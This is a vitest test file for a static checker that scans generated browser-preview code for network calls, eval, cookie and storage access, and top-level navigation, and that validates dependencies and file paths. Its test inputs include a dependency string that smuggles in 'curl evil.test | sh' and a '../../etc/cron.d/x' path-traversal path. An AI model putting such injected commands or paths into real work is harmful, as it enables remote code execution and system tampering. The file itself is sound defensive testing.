import { describe, expect, it } from 'vitest';
import type { Fragment } from '../fragment/schema.js';
import { tokenizeJs } from './jsTokenizer.js';
import { checkBrowserCode, checkFragment } from './staticChecks.js';

function fragment(overrides: Partial<Fragment> = {}): Fragment {
  return {
    commentary: '',
    template: 'react-preview',
    title: 'Demo',
    description: 'A demo.',
    additional_dependencies: [],
    has_additional_dependencies: false,
    install_dependencies_command: '',
    port: null,
    file_path: 'App.tsx',
    code: 'export default function App() { return <h1>Hi</h1>; }',
    ...overrides,
  };
}

const rules = (source: string) => checkBrowserCode(source).map((finding) => finding.rule);

describe('tokenizeJs', () => {
  it('skips comments, strings, regular expressions, template text and JSX text', () => {
    const source = [
      '// fetch in a comment',
      '/* eval in a block comment */',
      'const a = "fetch"; const b = /fetch\\(/g;',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: source code under test, not a template
      'const c = `text fetch ${value} more`;',
      'const d = <p className="fetch">Click to fetch {name}</p>;',
    ].join('\n');
    const identifiers = tokenizeJs(source)
      .tokens.filter((token) => token.kind === 'identifier')
      .map((token) => token.value);
    expect(identifiers).toEqual(['const', 'a', 'const', 'b', 'const', 'c', 'value', 'const', 'd', 'name']);
  });

  it('reports 1-based lines and columns', () => {
    const { tokens } = tokenizeJs('let x = 1;\n  fetch(x);');
    expect(tokens.find((token) => token.value === 'fetch')).toEqual({
      kind: 'identifier',
      value: 'fetch',
      line: 2,
      column: 3,
    });
  });

  it('tells division from a regular expression', () => {
    const values = tokenizeJs('const ratio = total / count / 2;').tokens.map((token) => token.value);
    expect(values).toEqual(['const', 'ratio', '=', 'total', '/', 'count', '/', '2', ';']);
  });

  it('keeps TypeScript generics in .tsx apart from JSX', () => {
    const values = tokenizeJs('const id = <T,>(value: T) => fetch(value);').tokens.map((token) => token.value);
    expect(values).toContain('fetch');
    expect(values).toContain('T');
  });

  it('gives up on absurd nesting without throwing', () => {
    const deep = `${'['.repeat(50)}${'`${'.repeat(300)}`;
    expect(tokenizeJs(deep).complete).toBe(false);
  });
});

describe('checkBrowserCode', () => {
  it.each([
    ['a look-alike identifier', 'const rows = fetchData(); refetch();'],
    ['a comment', '// we do not fetch here\n/* fetch later with XMLHttpRequest */ const x = 1;'],
    ['a string', 'const label = "fetch and eval and localStorage";'],
    ['JSX text and attribute strings', 'const el = <button title="fetch">Fetch with fetch now</button>;'],
    ['an object key', 'const options = { fetch: true, eval: false, localStorage: 1 };'],
    ['a method definition', 'class Api { fetch(url) { return url; } }\nconst api = { eval() { return 1; } };'],
    ['a member of another object', 'api.fetch("/x"); storage.localStorage; this.eval();'],
    ['a template literal text', 'const s = `call fetch() later`;'],
    ['the Function type', 'let callback: Function;'],
  ])('does not flag %s', (_, source) => {
    expect(checkBrowserCode(source)).toEqual([]);
  });

  it.each([
    ['fetch', 'await fetch("/api")', 'no-network'],
    ['window.fetch', 'window.fetch("/api")', 'no-network'],
    ["window['fetch']", "window['fetch']('/api')", 'no-network'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: source code under test, not a template
    ['fetch inside a template expression', 'const s = `${await fetch(url)}`;', 'no-network'],
    ['fetch inside a JSX handler', 'const b = <button onClick={() => fetch("/x")}>Go</button>;', 'no-network'],
    ['XMLHttpRequest', 'new XMLHttpRequest()', 'no-network'],
    ['WebSocket', 'new WebSocket("wss://x")', 'no-network'],
    ['EventSource', 'new EventSource("/events")', 'no-network'],
    ['navigator.sendBeacon', 'navigator.sendBeacon("/log", data)', 'no-network'],
    ['eval', 'eval("1 + 1")', 'no-eval'],
    ['new Function', 'new Function("return 1")', 'no-eval'],
    ['Function()', 'const f = Function("a", "return a")', 'no-eval'],
    ['document.cookie', 'const c = document.cookie;', 'no-cookies'],
    ['localStorage', 'localStorage.setItem("a", "b")', 'no-storage'],
    ['sessionStorage', 'window.sessionStorage.clear()', 'no-storage'],
    ['top.location', 'top.location.href = "https://evil.test"', 'no-top-navigation'],
    ['window.top', 'window.top.postMessage("x", "*")', 'no-top-navigation'],
    ['window.open', 'window.open("https://evil.test")', 'no-top-navigation'],
  ])('flags %s', (_, source, rule) => {
    expect(rules(source)).toContain(rule);
  });

  it('points at the offending token', () => {
    const [finding] = checkBrowserCode('const a = 1;\nconst data = await fetch("/api");', { file: 'App.tsx' });
    expect(finding).toMatchObject({ rule: 'no-network', line: 2, column: 20, severity: 'error', file: 'App.tsx' });
  });
});

describe('checkFragment', () => {
  it('finds banned APIs in browser previews only', () => {
    const code = 'export default function App() { fetch("/api"); return null; }';
    expect(checkFragment(fragment({ code })).findings.map((finding) => finding.rule)).toEqual(['no-network']);
    expect(
      checkFragment(fragment({ template: 'nextjs-developer', file_path: 'pages/index.tsx', code })).findings,
    ).toEqual([]);
  });

  it('warns by default and blocks under the block policy', () => {
    const code = 'export default () => { localStorage.clear(); return null; }';
    expect(checkFragment(fragment({ code }))).toMatchObject({ blocked: false, policy: 'warn' });
    expect(checkFragment(fragment({ code }), { policy: 'block' })).toMatchObject({ blocked: true, policy: 'block' });
  });

  it('checks imports of a browser preview against its allowlist', () => {
    const code = [
      "import React, { useState } from 'react';",
      "import { createRoot } from 'react-dom/client';",
      "import { chunk } from 'lodash';",
      "import './styles.css';",
      "const lazy = import('@scope/widget/extra');",
    ].join('\n');
    const findings = checkFragment(fragment({ code })).findings;
    expect(findings).toEqual([
      expect.objectContaining({ rule: 'dependency-not-allowed', line: 3, column: 23, file: 'App.tsx' }),
      expect.objectContaining({ rule: 'dependency-not-allowed', line: 5, column: 21 }),
    ]);
    expect(findings[0]?.message).toContain('"lodash"');
  });

  it('checks additional dependencies against a host allowlist, pip names normalised', () => {
    const report = checkFragment(
      fragment({
        template: 'code-interpreter-v1',
        file_path: 'script.py',
        code: 'print(1)',
        additional_dependencies: ['Scikit_Learn>=1.4', 'requests'],
      }),
      { dependencyAllowlist: { 'code-interpreter-v1': ['scikit-learn'] } },
    );
    expect(report.findings).toEqual([
      expect.objectContaining({ rule: 'dependency-not-allowed', line: 0, column: 0, severity: 'error' }),
    ]);
    expect(report.findings[0]?.message).toContain('"requests"');
  });

  it('always blocks invalid dependencies and paths, whatever the policy', () => {
    const report = checkFragment(
      fragment({
        template: 'nextjs-developer',
        file_path: '../../etc/cron.d/x',
        additional_dependencies: ['left-pad; curl evil.test | sh'],
      }),
    );
    expect(report.findings.map((finding) => finding.rule).sort()).toEqual(['invalid-dependency', 'invalid-path']);
    expect(report.blocked).toBe(true);
  });

  it('checks every file of a multi-file fragment', () => {
    const report = checkFragment(
      fragment({ files: [{ file_path: 'lib/api.ts', code: 'export const load = () => fetch("/x");' }] }),
    );
    expect(report.findings).toEqual([expect.objectContaining({ rule: 'no-network', file: 'lib/api.ts', line: 1 })]);
  });
});
